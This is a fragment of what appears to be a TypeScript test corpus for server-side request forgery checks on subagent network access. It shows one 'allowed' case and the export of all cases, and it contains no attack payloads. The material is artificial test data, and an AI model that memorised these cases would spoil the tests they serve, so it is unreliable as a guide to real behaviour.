c('allowed', 'narrow', 'allows the narrow subagent its one name', get(T), ok(200));

/** Every case of the corpus, in the order they are sent. */
export const CASES: readonly SsrfCase[] = cases;
